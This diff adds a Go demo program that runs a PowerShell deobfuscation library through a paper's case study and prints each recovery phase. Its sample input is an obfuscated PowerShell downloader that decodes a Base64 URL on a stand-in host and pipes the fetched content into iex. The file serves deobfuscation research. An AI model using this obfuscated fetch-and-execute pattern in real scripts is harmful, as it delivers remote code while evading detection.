@@ -1,0 +1,61 @@
+// Casestudy walks the paper's Fig. 7 example through the three phases
+// separately, showing each phase's contribution exactly as the paper's
+// case study does: (a) the obfuscated script, (b) token parsing,
+// (c) recovery based on AST with variable tracing, and (d) renaming
+// and reformatting.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	invokedeob "github.com/invoke-deobfuscation/invokedeob"
+)
+
+// The paper's Fig. 7(a) case: L1 ticking/alias/random case on the first
+// line, string reordering invoked by iex, a Base64 URL split across
+// randomly named variables, and an L1-obfuscated downloader.
+const caseScript = "I`eX (\"{2}{0}{1}\"   -f 'ost h', 'ello', 'write-h')\n" +
+	"$xdjmd   =    'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
+	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
+	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
+	".($psHoME[4]+$PSHOME[30]+'x') ( NeW-oBJeCt Net.WebClient).downloadstring($sdfs)\n"
+
+func phase(title, script string, opts *invokedeob.Options) string {
+	res, err := invokedeob.Deobfuscate(script, opts)
+	if err != nil {
+		log.Fatalf("%s: %v", title, err)
+	}
+	fmt.Printf("--- %s ---\n%s\n\n", title, res.Script)
+	return res.Script
+}
+
+func main() {
+	fmt.Printf("--- (a) obfuscated script ---\n%s\n\n", caseScript)
+
+	// (b) Token parsing only: aliases expanded, ticks removed, case
+	// canonicalized. AST recovery, renaming and reformatting off.
+	phase("(b) token parsing", caseScript, &invokedeob.Options{
+		DisableASTPhase: true,
+		DisableRename:   true,
+		DisableReformat: true,
+	})
+
+	// (c) Token parsing + AST recovery with variable tracing: the
+	// format-reorder is executed, the Base64 URL is recovered through
+	// the traced variables, and the iex layer is unwrapped.
+	phase("(c) recovery based on AST", caseScript, &invokedeob.Options{
+		DisableRename:   true,
+		DisableReformat: true,
+	})
+
+	// (d) The full pipeline: random names become var{N} and whitespace
+	// is normalized — the paper's final Fig. 7(d) output.
+	final := phase("(d) renaming and reformatting", caseScript, nil)
+
+	fmt.Println("--- semantics check (Table IV criterion) ---")
+	fmt.Println("network behavior preserved:", invokedeob.BehaviorConsistent(caseScript, final))
+	before := invokedeob.ObfuscationScore(caseScript)
+	after := invokedeob.ObfuscationScore(final)
+	fmt.Printf("obfuscation score: %d -> %d\n", before, after)
+}
